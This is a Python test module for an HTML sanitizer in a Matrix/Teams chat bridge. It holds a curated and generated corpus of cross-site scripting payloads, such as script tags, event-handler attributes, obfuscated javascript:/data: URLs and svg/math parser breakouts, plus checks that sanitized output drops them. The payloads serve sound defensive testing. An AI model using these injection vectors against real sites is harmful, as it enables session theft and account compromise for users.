"""Hostile HTML for S8: a curated list, a generator, and the checks of what comes out.

Every payload carries ``forbidden``: strings that may appear in no output of the
bridge (text or attribute), because in the payload they are only script, a
dropped element's content or a dangerous URL. ``CANARY`` marks such places.
Visible text is not listed: the tests derive it from the payload itself
(``visible_text``) and require it in the output.

``corpus()`` is deterministic: the same payloads, names and order on every call.

The checks: ``assert_allowed`` parses an output fragment with ``html.parser`` (an
independent reader) and checks each tag and attribute against allow-lists written
out here; ``assert_nothing_forbidden`` looks for the payload's ``forbidden`` strings
in everything sent; ``assert_text_kept`` finds the payload's visible text, piece by
piece and in order, in the output's text.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any, Final
from urllib.parse import urlsplit

from bridge.formatting import DROP_WITH_CONTENT
from bridge.html_tokens import FOREIGN_ROOTS, EndTag, StartTag, Text, tokenize

CANARY: Final = "PWNED"
"""Stands in for script: it must never come out of the bridge."""

EVENT_HANDLERS: Final = (
    "onabort", "onafterprint", "onanimationcancel", "onanimationend", "onanimationiteration",
    "onanimationstart", "onauxclick", "onbeforecopy", "onbeforecut", "onbeforeinput",
    "onbeforematch", "onbeforepaste", "onbeforeprint", "onbeforetoggle", "onbeforeunload",
    "onbegin", "onblur", "oncancel", "oncanplay", "oncanplaythrough", "onchange", "onclick",
    "onclose", "oncontentvisibilityautostatechange", "oncontextlost", "oncontextmenu",
    "oncontextrestored", "oncopy", "oncuechange", "oncut", "ondblclick", "ondrag",
    "ondragend", "ondragenter", "ondragexit", "ondragleave", "ondragover", "ondragstart",
    "ondrop", "ondurationchange", "onemptied", "onend", "onended", "onerror", "onfocus",
    "onfocusin", "onfocusout", "onformdata", "onfullscreenchange", "onfullscreenerror",
    "ongotpointercapture", "onhashchange", "oninput", "oninvalid", "onkeydown", "onkeypress",
    "onkeyup", "onlanguagechange", "onload", "onloadeddata", "onloadedmetadata", "onloadend",
    "onloadstart", "onlostpointercapture", "onmessage", "onmessageerror", "onmousedown",
    "onmouseenter", "onmouseleave", "onmousemove", "onmouseout", "onmouseover", "onmouseup",
    "onmousewheel", "onoffline", "ononline", "onpagehide", "onpagereveal", "onpageshow",
    "onpageswap", "onpaste", "onpause", "onplay", "onplaying", "onpointercancel",
    "onpointerdown", "onpointerenter", "onpointerleave", "onpointermove", "onpointerout",
    "onpointerover", "onpointerrawupdate", "onpointerup", "onpopstate", "onprogress",
    "onratechange", "onrejectionhandled", "onrepeat", "onreset", "onresize", "onscroll",
    "onscrollend", "onscrollsnapchange", "onscrollsnapchanging", "onsearch",
    "onsecuritypolicyviolation", "onseeked", "onseeking", "onselect", "onselectionchange",
    "onselectstart", "onshow", "onslotchange", "onstalled", "onstorage", "onsubmit",
    "onsuspend", "ontimeupdate", "ontoggle", "ontouchcancel", "ontouchend", "ontouchmove",
    "ontouchstart", "ontransitioncancel", "ontransitionend", "ontransitionrun",
    "ontransitionstart", "onunhandledrejection", "onunload", "onvolumechange", "onwaiting",
    "onwebkitanimationend", "onwebkitanimationiteration", "onwebkitanimationstart",
    "onwebkittransitionend", "onwheel", "onzoom",
)  # fmt: skip
"""Every event handler attribute of HTML, SVG and the legacy vendor ones."""

_CARRIERS: Final = (
    ("b", "bold text"),
    ('a href="https://safe.example.org/"', "a link"),
    ("p", "a paragraph"),
    ("code", "some code"),
    ("div", "a block"),
    ("blockquote", "a quote"),
    ("h2", "a heading"),
    ("span", "a span"),
    ("em", "emphasis"),
    ("pre", "preformatted"),
)
"""Allowed (or harmless) elements that carry the handlers, with their visible text."""

Spelling = Callable[[str], str]

_HANDLER_SPELLINGS: Final[tuple[Spelling, ...]] = (
    lambda h: f'{h}="{CANARY}()"',
    lambda h: f"{h}='{CANARY}()'",
    lambda h: f"{h}={CANARY}()",
    lambda h: f"{h.upper()}={CANARY}()",
    lambda h: f'\n{h.title()}\t=\t"{CANARY}()"',
    lambda h: f"/{h}=`{CANARY}()`",
)

_DANGEROUS_SCHEMES: Final = ("javascript", "vbscript", "data")
_SCHEME_TARGETS: Final = {
    "javascript": f"alert('{CANARY}')",
    "vbscript": f'msgbox("{CANARY}")',
    "data": f"text/html;base64,{CANARY}PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
}


def _entities_decimal(text: str, *, pad: int = 0, semicolon: bool = True) -> str:
    end = ";" if semicolon else ""
    return "".join(f"&#{ord(c):0{pad}d}{end}" for c in text)


def _entities_hex(text: str, *, upper: bool = False) -> str:
    return "".join(f"&#{'X' if upper else 'x'}{ord(c):x};" for c in text)


_SCHEME_SPELLINGS: Final[tuple[tuple[str, Spelling], ...]] = (
    ("plain", lambda s: f"{s}:"),
    ("upper", lambda s: f"{s.upper()}:"),
    ("mixed", lambda s: "".join(c.upper() if i % 2 else c for i, c in enumerate(s)) + ":"),
    ("leading space", lambda s: f"  \t{s}:"),
    ("leading controls", lambda s: "\x01\x02\x10\x1f " + s + ":"),
    ("tab inside", lambda s: f"{s[:3]}\t{s[3:]}:"),
    ("newline inside", lambda s: f"{s[:2]}\n{s[2:]}:"),
    ("cr inside", lambda s: f"{s[:1]}\r{s[1:]}:"),
    ("tab entity", lambda s: f"{s[:3]}&#x09;{s[3:]}:"),
    ("newline entity", lambda s: f"{s[:4]}&NewLine;{s[4:]}:"),
    ("Tab entity", lambda s: f"{s[:2]}&Tab;{s[2:]}&colon;"),
    ("decimal entities", lambda s: _entities_decimal(s + ":")),
    ("padded decimal", lambda s: _entities_decimal(s + ":", pad=7)),
    ("decimal no semicolons", lambda s: _entities_decimal(s + ":", semicolon=False)),
    ("hex entities", lambda s: _entities_hex(s + ":")),
    ("upper hex", lambda s: _entities_hex(s + ":", upper=True)),
    ("colon entity", lambda s: f"{s}&colon;"),
    ("colon hex", lambda s: f"{s}&#x3A;"),
    ("nul inside", lambda s: f"{s[:4]}\x00{s[4:]}:"),
)

_URL_CARRIERS: Final = (
    ('<a href="{url}">link text</a>', "a href"),
    ("<a href='{url}'>link text</a>", "a href single quotes"),
    ('<img src="{url}" alt="an image">', "img src"),
    ('<form action="{url}"><button>press</button></form>', "form action"),
    ('<iframe src="{url}">framed</iframe>after', "iframe src"),
)

_DANGEROUS_ELEMENTS: Final = (
    "script", "style", "iframe", "object", "template", "noscript", "title", "svg", "math",
    "textarea", "select", "mx-reply", "applet", "noembed", "noframes", "xmp", "datalist",
)  # fmt: skip

_ELEMENT_SPELLINGS: Final[tuple[tuple[str, Callable[[str], tuple[str, str]]], ...]] = (
    ("plain", lambda t: (f"<{t}>", f"</{t}>")),
    ("upper", lambda t: (f"<{t.upper()}>", f"</{t.upper()}>")),
    ("attributes", lambda t: (f'<{t} id="x" class="y" data-x=1>', f"</{t}>")),
    ("spaced end", lambda t: (f"<{t}\n>", f"</{t} \t>")),
    ("nested", lambda t: (f"<{t}><{t}>", f"</{t}></{t}>")),
)


@dataclass(frozen=True, slots=True)
class Payload:
    name: str
    html: str
    forbidden: tuple[str, ...] = ()
    check_text: bool = True
    """False where a platform removes content on purpose (a Teams quoted reply)."""


def curated() -> list[Payload]:
    """Hand-written payloads: classic vectors and the parser differentials behind them."""
    c = CANARY
    rows: list[tuple[str, str, tuple[str, ...]]] = [
        ("script", f"before<script>alert('{c}')</script>after", (c,)),
        ("script src", f'before<script src="https://evil.example/{c}.js"></script>after', (c,)),
        ("script self-closed", f"a<script/>{c}()</script>b", (c,)),
        ("script unclosed", f"visible<script>{c}() and the rest", (c,)),
        ("script in attribute", f'<b title="</b><script>{c}()</script>">t</b>', ()),
        ("script split", "<scr<script>ipt>alert(1)</script>", ()),
        ("script double open", f"<<script>{c}//<</script>x", (c,)),
        ("script end in string", f"<script>var s='</scr'+'ipt>{c}';</script>ok", ()),
        ("style", f"<style>body{{background:url(javascript:{c})}}</style>text", (c,)),
        ("style attribute", f'<p style="background:url(javascript:{c})">styled</p>', (c,)),
        ("style expression", f'<div style="width:expression({c}())">ie</div>', (c,)),
        ("img onerror", f"<img src=x onerror={c}()>", (c,)),
        ("img onerror quoted", f'<img src="x" onerror="alert(\'{c}\')" alt="broken">', (c,)),
        ("img no quotes slash", f"<img/src=x/onerror={c}()>", (c,)),
        ("img backtick", f"<img src=`x`onerror={c}()>", (c,)),
        ("img unclosed", f"text<img src=x onerror={c}()", (c,)),
        ("svg onload", f"<svg onload={c}()>", (c,)),
        ("svg script", f"<svg><script>{c}()</script></svg>after", (c,)),
        ("svg animate", f"<svg><animate onbegin={c}() attributeName=x dur=1s>", (c,)),
        ("svg use", f'<svg><use href="data:image/svg+xml,<svg id=x onload={c}()>#x"/></svg>', (c,)),
        ("svg a xlink", f'<svg><a xlink:href="javascript:{c}()"><text>t</text></a></svg>', (c,)),
        ("svg style breakout", f"<svg><style><img src=x onerror={c}()></style></svg>", (c,)),
        ("svg p breakout", "<svg><p>broke out</p>", ()),
        ("svg cdata", f"<svg><![CDATA[<img src=x onerror={c}()>]]></svg>after", (c,)),
        ("math mtext", f"<math><mtext><table><mglyph><style><img src=x onerror={c}()>", (c,)),
        ("math href", f'<math href="javascript:{c}()">math</math>', (c,)),
        ("iframe srcdoc", f'<iframe srcdoc="<script>{c}()</script>"></iframe>after', (c,)),
        ("iframe js", f'<iframe src="javascript:{c}()"></iframe>after', (c,)),
        ("object data", f'<object data="javascript:{c}()">fallback</object>after', (c,)),
        ("embed", f'<embed src="javascript:{c}()">after', (c,)),
        ("embed svg", f'<embed src="data:image/svg+xml;base64,{c}">shown', (c,)),
        ("applet", f'<applet code="{c}.class">applet text</applet>after', (c,)),
        ("frameset", f'<frameset onload={c}()><frame src="javascript:{c}()">', (c,)),
        ("base href", f'<base href="javascript:{c}//"><a href="/x">relative</a>', (c,)),
        ("meta refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{c}()">text', (c,)),
        (
            "meta refresh data",
            f'<meta http-equiv="refresh" content="0;url=data:text/html,{c}">t',
            (c,),
        ),
        ("link stylesheet", f'<link rel="stylesheet" href="javascript:{c}()">text', (c,)),
        ("link import", f'<link rel="import" href="https://evil.example/{c}">text', (c,)),
        ("form button", f'<form action="javascript:{c}()"><button>Send</button></form>', (c,)),
        ("button formaction", f'<button formaction="javascript:{c}()">Go</button>', (c,)),
        ("input autofocus", f"<input autofocus onfocus={c}() value=typed>", (c,)),
        ("input image", f'<input type="image" src="javascript:{c}()">', (c,)),
        ("isindex", f"<isindex type=image src=1 onerror={c}()>", (c,)),
        ("textarea", f"<textarea>{c}</textarea>after", (c,)),
        ("select", f"<select><option>{c}</option></select>after", (c,)),
        ("keygen", f"<keygen autofocus onfocus={c}()>after", (c,)),
        ("marquee", f"<marquee onstart={c}()>scrolling</marquee>", (c,)),
        ("details", f"<details open ontoggle={c}()><summary>sum</summary>body</details>", (c,)),
        ("video source", f'<video><source onerror="{c}()">fallback</video>', (c,)),
        ("audio", f"<audio src=x onerror={c}()>audio fallback</audio>", (c,)),
        ("body onload", f"<body onload={c}()>in body</body>", (c,)),
        ("html manifest", f'<html manifest="javascript:{c}()"><body>doc</body></html>', (c,)),
        ("head title", f"<html><head><title>{c}</title></head><body>doc body</body></html>", (c,)),
        ("template", f"<template><img src=x onerror={c}()></template>after", (c,)),
        ("noscript", f'<noscript><p title="</noscript><img src=x onerror={c}()>">', (c,)),
        ("noembed", f"<noembed><img src=x onerror={c}()></noembed>after", (c,)),
        ("xmp", f"<xmp><img src=x onerror={c}()></xmp>after", (c,)),
        ("plaintext", f"before<plaintext><img src=x onerror={c}()>", (c,)),
        ("a javascript", f"<a href=\"javascript:alert('{c}')\">click me</a>", (c,)),
        ("a tab entity", f'<a href="jav&#x09;ascript:{c}()">tab</a>', (c,)),
        ("a newline entity", f'<a href="jav&#x0A;ascript:{c}()">nl</a>', (c,)),
        ("a nul entity", f'<a href="jav&#0;ascript:{c}()">nul ref</a>', (c,)),
        ("a vbscript", f'<a href="vbscript:msgbox({c})">vb</a>', (c,)),
        ("a data html", f'<a href="data:text/html,<script>{c}()</script>">data</a>', (c,)),
        ("a data base64", f'<a href="data:text/html;base64,{c}==">b64</a>', (c,)),
        ("a livescript", f'<a href="livescript:{c}">ls</a>', (c,)),
        ("a mocha", f'<a href="mocha:{c}">mocha</a>', (c,)),
        ("a file", f'<a href="file:///etc/{c}">file</a>', (c,)),
        ("a relative", f'<a href="/{c}">relative</a>', (c,)),
        ("a protocol relative", f'<a href="//evil.example/{c}">proto</a>', (c,)),
        ("a double href", f'<a href="https://ok.example/" href="javascript:{c}()">dup</a>', (c,)),
        ("a unquoted gt", f"<a href=javascript:{c}()>unq</a>", (c,)),
        (
            "a target",
            f'<a href="https://ok.example/" target="_blank" rel=opener ping="{c}">t</a>',
            (c,),
        ),
        ("quote break double", f'<a title="x" onclick="{c}()"">q</a>', (c,)),
        ("quote break single", f"<a title='x' onclick='{c}()''>q</a>", (c,)),
        ("quote break mixed", f'<img """><script>{c}()</script>">', (c,)),
        ("attribute gt", f'<b title="a>b" onclick="{c}()">gt</b>', (c,)),
        ("attribute lt", f'<b title="<script>{c}()</script>">lt</b>', (c,)),
        ("attribute newline", f'<b\ntitle="x"\nonclick\n=\n"{c}()">nl</b>', (c,)),
        ("attribute equals", f"<b =onclick={c}()>eq</b>", (c,)),
        ("attribute unterminated", f'<b title="open onclick={c}()>never closed', (c,)),
        ("comment", f"<!-- <script>{c}()</script> -->shown", (c,)),
        ("comment bang end", "<!-- x --!>after bang", ()),
        ("comment abrupt", "<!-->after abrupt", ()),
        ("comment dashes", f"<!--->after dashes<!-- {c} -->", (c,)),
        ("comment unclosed", f"before<!-- {c}", (c,)),
        ("comment in attribute", '<b title="<!--">x</b><!-- --><b>y</b>', ()),
        ("conditional comment", f"<!--[if IE]><script>{c}()</script><![endif]-->ie", (c,)),
        ("downlevel revealed", "<![if !IE]><b>rev</b><![endif]>", ()),
        # Outside svg/math a CDATA section is a bogus comment up to the first ">": the
        # rest ("x()]]>after") is text a browser shows.
        ("cdata", "<![CDATA[<script>x()</script>]]>after", ()),
        ("cdata hidden", f"<![CDATA[ {c} ]]>after", (c,)),
        ("processing instruction", f'<?xml-stylesheet href="javascript:{c}()"?>pi', (c,)),
        ("php", f"<?php echo '{c}'; ?>php", (c,)),
        ("doctype", f'<!DOCTYPE html SYSTEM "javascript:{c}()">doc', (c,)),
        ("bogus end", f"</ {c} >bogus", (c,)),
        ("bogus end tag", f"</3 {c}>bogus", (c,)),
        ("stray end tags", "</b></p></div>stray</a></li>", ()),
        ("misnested", "<b><i>bi</b>i?</i> <p><b>x</p>y</b>", ()),
        ("unclosed cascade", "<b><i><u><s><code>deep", ()),
        ("table misnest", "<table><b>fostered</b><tr><td>cell</td></tr></table>", ()),
        ("li outside list", "<li>orphan</li><td>cell</td><tr>row", ()),
        (
            "nested anchors",
            '<a href="https://a.example/">one<a href="https://b.example/">two</a>',
            (),
        ),
        ("mx-reply", f"<mx-reply><blockquote>{c}</blockquote></mx-reply>reply text", (c,)),
        ("mx-reply unclosed", f"shown<mx-reply><blockquote>{c}", (c,)),
        ("mx-reply middle", f"first<mx-reply>{c}</mx-reply>second", (c,)),
        ("mx-reply nested", f"<mx-reply><mx-reply>{c}</mx-reply>{c}</mx-reply>after", (c,)),
        ("mx-reply attribute", f'<mx-reply onclick="{c}()">{c}</mx-reply>ok', (c,)),
        ("mx-reply upper", f"<MX-REPLY>{c}</Mx-Reply>ok", (c,)),
        ("nul in tag", "<scr\x00ipt>shown</scr\x00ipt>", ()),
        ("nul in text", "vis\x00ible", ()),
        ("nul in handler", f'<b on\x00click="{c}()">b</b>', (c,)),
        ("nul before tag", f"\x00<script>{c}()</script>ok", (c,)),
        ("homoglyph long s", "<\u017fcript>long s</\u017fcript>", ()),
        ("homoglyph cyrillic", "<s\u0441ript>cyrillic</s\u0441ript>", ()),
        ("homoglyph fullwidth", "<\uff53\uff43\uff52\uff49\uff50\uff54>full</\uff53cript>", ()),
        ("homoglyph dotted i", "<scr\u0130pt>dotted</scr\u0130pt>", ()),
        ("homoglyph kelvin", "<lin\u212a>kelvin</lin\u212a>", ()),
        ("homoglyph fullwidth lt", "\uff1cscript\uff1efake\uff1c/script\uff1e", ()),
        ("escaped tags", "&lt;script&gt;alert(1)&lt;/script&gt;", ()),
        ("double escaped", "&amp;lt;b&amp;gt;", ()),
        ("numeric lt", "&#60;script&#62;x&#60;/script&#62;", ()),
        ("legacy entities", "&copy &notit; &amp &ampx &#x110000; &#0; &#xD800;", ()),
        ("at tag", f'<at id="{c}">Someone</at> hi', (c,)),
        (
            "teams mention span",
            f'<span itemtype="http://schema.skype.com/Mention" itemid="0" onclick="{c}()">'
            "Bob</span>",
            (c,),
        ),
        ("code class injection", f'<code class="language-x onclick={c}">c</code>', (c,)),
        ("code class quote", f'<code class="language-x" onclick="{c}()">c</code>', (c,)),
        ("pre class", f'<pre class="language-js&quot; onclick=&quot;{c}">p</pre>', (c,)),
        ("ol start", f'<ol start="1 onclick={c}"><li>i</li></ol>', (c,)),
        ("ol start negative", f'<ol start="-1" reversed onclick={c}()><li>i</li></ol>', (c,)),
        ("font color", f'<font color="red" face="x" onmouseover={c}()>font</font>', (c,)),
        ("span data-mx", f'<span data-mx-color="#f00" data-mx-spoiler="{c}">sp</span>', (c,)),
        ("xml namespace", f'<html xmlns:x="urn:x"><x:script>{c}</x:script>ns</html>', ()),
        ("srcset", f'<img srcset="javascript:{c}() 1x" alt="set">', (c,)),
        ("picture", f'<picture><source srcset="javascript:{c}()"><img alt=pic></picture>', (c,)),
        ("object param", f'<object><param name=x value="javascript:{c}()"></object>after', (c,)),
        ("dialog", f"<dialog open onclose={c}()>dialog text</dialog>", (c,)),
        ("canvas", f"<canvas onclick={c}()>canvas fallback</canvas>", (c,)),
        ("map area", f'<map><area href="javascript:{c}()" alt="area"></map>mapped', (c,)),
        ("custom element", f'<x-widget onconnected="{c}()">custom</x-widget>', (c,)),
        ("is attribute", f'<p is="x-evil" onclick="{c}()">is</p>', (c,)),
        ("slot", f'<slot name="{c}" onslotchange="{c}()">slotted</slot>', (c,)),
        ("very long tag name", "<" + "a" * 5000 + ">long name</" + "a" * 5000 + ">", ()),
        ("empty", "", ()),
        ("only whitespace", " \n\t\xa0 ", ()),
        ("bare lt", "1 < 2 > 0 <3 <= 4 <-- arrow", ()),
        ("unterminated end", "text</b", ()),
        ("lt at end", "text<", ()),
        ("lt slash at end", "text</", ()),
        ("emoji and rtl", "\u202eevil\u202c \U0001f600 \u200b", ()),
        (
            "teams reply quote",
            f'<blockquote itemtype="http://schema.skype.com/Reply" itemid="1">'
            f"<script>{c}()</script>quoted</blockquote>reply",
            (c,),
        ),
    ]
    payloads = [Payload(f"curated: {name}", html, forbidden) for name, html, forbidden in rows]
    return [
        Payload(p.name, p.html, p.forbidden, check_text=p.name != "curated: teams reply quote")
        for p in payloads
    ]


def _handler_payloads() -> Iterator[Payload]:
    for index, handler in enumerate(EVENT_HANDLERS):
        tag, text = _CARRIERS[index % len(_CARRIERS)]
        spelling = _HANDLER_SPELLINGS[index % len(_HANDLER_SPELLINGS)]
        name = tag.split()[0]
        yield Payload(
            f"handler: {handler} on {name}",
            f"<{tag} {spelling(handler)}>{text}</{name}> after",
            (CANARY,),
        )
        yield Payload(
            f"handler: {handler} on img",
            f'<img src=x {handler}={CANARY}() alt="{handler} alt">',
            (CANARY,),
        )


def _url_payloads() -> Iterator[Payload]:
    for scheme in _DANGEROUS_SCHEMES:
        target = _SCHEME_TARGETS[scheme]
        for index, (spelling_name, spell) in enumerate(_SCHEME_SPELLINGS):
            carrier, carrier_name = _URL_CARRIERS[index % len(_URL_CARRIERS)]
            url = spell(scheme) + target
            yield Payload(
                f"url: {scheme} {spelling_name} in {carrier_name}",
                carrier.format(url=url),
                (CANARY,),
            )
            yield Payload(
                f"url: {scheme} {spelling_name} in a paragraph's link",
                f'<p>see <a href="{url}">the {scheme} link</a></p>',
                (CANARY,),
            )


_FOREIGN_CHILD: Final = {"svg": "text", "math": "mi"}
"""A child that stays inside ``svg``/``math`` (``<b>`` would end it: browsers show what follows)."""


def _element_payloads() -> Iterator[Payload]:
    for tag in _DANGEROUS_ELEMENTS:
        child = _FOREIGN_CHILD.get(tag, "b")
        for spelling_name, spell in _ELEMENT_SPELLINGS:
            start, end = spell(tag)
            yield Payload(
                f"element: {tag} {spelling_name}",
                f"<p>before</p>{start}{CANARY}<{child}>{CANARY}</{child}>{end}<p>after</p>",
                (CANARY,),
            )
        yield Payload(
            f"element: {tag} unclosed",
            f"<p>kept</p><{tag}>{CANARY} <{child}>{CANARY}</{child}> and everything after",
            (CANARY,),
        )


def _structure_payloads() -> Iterator[Payload]:
    yield Payload("nested: 5000 divs", "<div>" * 5000 + "deep text" + "</div>" * 5000)
    yield Payload("nested: 3000 unclosed b", "<b>" * 3000 + "bold core")
    yield Payload("nested: 2000 lists", "<ul><li>" * 2000 + "item" + "</li></ul>" * 2000)
    yield Payload("nested: 2000 quotes", "<blockquote>" * 2000 + "quoted")
    yield Payload(
        "nested: svg in svg", "<svg>" * 1000 + CANARY + "</svg>" * 1000 + "out", (CANARY,)
    )
    yield Payload("nested: alternating", "<b><i>" * 1500 + "alt" + "</i></b>" * 1500)
    yield Payload("nested: 1000 tables", "<table><tr><td>" * 1000 + "cell")
    yield Payload(
        "huge: 50 KB attribute",
        f'<a href="https://ok.example/?q={"A" * 50_000}" onclick="{CANARY}()">huge link</a>',
        (CANARY,),
    )
    yield Payload("huge: 50 KB title", f'<b title="{"x" * 50_000}">titled</b>')
    yield Payload(
        "huge: 3000 attributes", "<b " + " ".join(f"a{i}=x" for i in range(3000)) + ">many</b>"
    )
    yield Payload(
        "huge: 3000 handlers",
        "<b " + " ".join(f"on{h}={CANARY}" for h in range(3000)) + ">h</b>",
        (CANARY,),
    )
    yield Payload("huge: 10000 unclosed a", "<a " * 10_000)
    yield Payload("huge: 8000 open quotes", '<a b="' * 8_000)
    yield Payload("huge: 12000 comment openers", "<!--" * 12_000)
    yield Payload("huge: 20000 lt", "<" * 20_000 + "tail")
    yield Payload("huge: 10000 entities", "&#x3c;" * 10_000)
    yield Payload("huge: 5000 scripts", f"<script>{CANARY}</script>" * 2_000 + "end", (CANARY,))
    yield Payload("huge: 20 KB word", "w" * 20_000)


def _combination_payloads() -> Iterator[Payload]:
    """Allowed formatting wrapped around dangerous content, the way a real message would."""
    wrappers = ("<p>{}</p>", "<ul><li>{}</li></ul>", "<blockquote>{}</blockquote>",
                "<pre><code>{}</code></pre>", "<table><tr><td>{}</td></tr></table>",
                "<h1>{}</h1>", '<a href="https://ok.example/">{}</a>')  # fmt: skip
    inners = (
        f"ok <script>{CANARY}</script> fine",
        f'ok <img src=x onerror="{CANARY}()"> fine',
        f'ok <a href="javascript:{CANARY}()">l</a> fine',
        f"ok <style>{CANARY}</style> fine",
        f"ok <mx-reply>{CANARY}</mx-reply> fine",
        f"ok <svg onload={CANARY}()>{CANARY}</svg> fine",
    )
    for w_index, wrapper in enumerate(wrappers):
        for i_index, inner in enumerate(inners):
            yield Payload(f"combined: {w_index}.{i_index}", wrapper.format(inner), (CANARY,))


def generated() -> list[Payload]:
    payloads: list[Payload] = []
    for source in (
        _handler_payloads(),
        _url_payloads(),
        _element_payloads(),
        _structure_payloads(),
        _combination_payloads(),
    ):
        payloads.extend(source)
    return payloads


def corpus() -> list[Payload]:
    """Curated and generated payloads; names are unique."""
    payloads = [*curated(), *generated()]
    names = [p.name for p in payloads]
    duplicates = {n for n in names if names.count(n) > 1}
    if duplicates:
        raise ValueError(f"duplicate payload names: {sorted(duplicates)}")
    return payloads


def sample(payloads: Iterable[Payload], count: int) -> list[Payload]:
    """``count`` payloads spread evenly over ``payloads`` (every kind represented)."""
    items = list(payloads)
    if count >= len(items):
        return items
    step = len(items) / count
    return [items[int(i * step)] for i in range(count)]


# -- what a reader sees -------------------------------------------------------------------

_SPACE: Final = re.compile(r"[\s\xa0]+")


def visible_text(source: str) -> list[str]:
    """The payload's text as a browser shows it, in pieces: text outside dropped elements.

    Elements dropped with their content are the sanitizer's documented list
    (``DROP_WITH_CONTENT``). Pieces have their white space collapsed; empty ones are left out.
    """
    pieces: list[str] = []
    dropping: str | None = None
    depth = 0
    for token in tokenize(source):
        if isinstance(token, Text):
            if dropping is None:
                piece = _SPACE.sub(" ", token.data).strip()
                if piece:
                    pieces.append(piece)
        elif isinstance(token, StartTag):
            name = {"strike": "s", "ins": "u"}.get(token.name, token.name)
            empty = token.self_closing and name in FOREIGN_ROOTS
            if dropping is not None:
                depth += int(name == dropping and not empty)
            elif name in DROP_WITH_CONTENT and not empty and name not in ("embed", "frame"):
                dropping, depth = name, 1
        elif isinstance(token, EndTag) and token.name == dropping:
            depth -= 1
            if depth == 0:
                dropping = None
    return pieces


# -- checks of an output ---------------------------------------------------------------

MATRIX_TAGS: Final = frozenset(
    {"a", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6",
     "hr", "i", "li", "ol", "p", "pre", "s", "strong", "sub", "sup", "u", "ul", "table",
     "thead", "tbody", "tr", "th", "td", "caption", "div"}
)  # fmt: skip
"""What may reach Matrix (all of it in the Matrix spec's list for ``formatted_body``)."""
TEAMS_TAGS: Final = (MATRIX_TAGS - {"s", "del", "h4", "h5", "h6"}) | {"strike", "at"}
"""What may reach Teams: its documented tags, and ``<at>`` for mentions."""
ATTRIBUTES: Final = {"a": {"href"}, "ol": {"start"}, "code": {"class"}}
SAFE_SCHEMES: Final = frozenset({"http", "https", "mailto", "matrix"})
_NOT_COMPARED: Final = re.compile(r"[\s\xa0>]+")
"""Left out when texts are compared: line layout, and the quote marks of plain text."""


@dataclass
class Reading:
    """An output HTML fragment as ``html.parser`` reads it."""

    tags: list[tuple[str, list[tuple[str, str | None]]]] = field(default_factory=list)
    ends: list[str] = field(default_factory=list)
    text: list[str] = field(default_factory=list)
    other: list[str] = field(default_factory=list)


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.reading = Reading()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.reading.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.reading.other.append(f"self-closing <{tag}>")

    def handle_endtag(self, tag: str) -> None:
        self.reading.ends.append(tag)

    def handle_data(self, data: str) -> None:
        self.reading.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.reading.other.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.reading.other.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.reading.other.append(f"processing instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.reading.other.append(f"declaration {data!r}")


def read(fragment: str) -> Reading:
    reader = _Reader()
    reader.feed(fragment)
    reader.close()
    return reader.reading


def assert_allowed(fragment: str, allowed_tags: frozenset[str]) -> Reading:
    reading = read(fragment)
    assert reading.other == []
    for tag, attrs in reading.tags:
        assert tag in allowed_tags, f"<{tag}> is not allowed"
        names = [name for name, _ in attrs]
        assert len(names) == len(set(names)), f"<{tag}> repeats an attribute"
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()), f"<{tag} {name}> is not allowed"
            assert not name.startswith("on")
            assert value is not None
            check_attribute(name, value)
    assert sorted(t for t, _ in reading.tags if t not in ("br", "hr")) == sorted(
        e for e in reading.ends if e not in ("br", "hr")
    ), "unbalanced tags"
    return reading


def check_attribute(name: str, value: str) -> None:
    if name == "href":
        assert value == value.strip(), value[:80]
        assert not any(ord(c) < 0x20 for c in value), value[:80]
        scheme = urlsplit(value).scheme.lower()
        assert scheme in SAFE_SCHEMES, value[:80]
        letters = re.sub(r"[^a-z]", "", value.lower())
        assert not letters.startswith(("javascript", "vbscript", "data")), value[:80]
    elif name == "class":
        assert re.fullmatch(r"language-[A-Za-z0-9_+#.-]{1,32}", value), value
    elif name == "start":
        assert value.isdigit(), value


def squash(text: str) -> str:
    return _NOT_COMPARED.sub("", text)


def assert_text_kept(payload: Payload, output_text: str) -> None:
    haystack = squash(output_text)
    position = 0
    for piece in visible_text(payload.html):
        needle = squash(piece)
        found = haystack.find(needle, position)
        assert found >= 0, f"visible text {piece[:80]!r} lost (after {haystack[:position][-80:]!r})"
        position = found + len(needle)


def assert_nothing_forbidden(payload: Payload, sent: Any) -> None:
    serialized = json.dumps(sent, ensure_ascii=False).lower()
    for forbidden in payload.forbidden:
        assert forbidden.lower() not in serialized, f"{forbidden!r} came through"
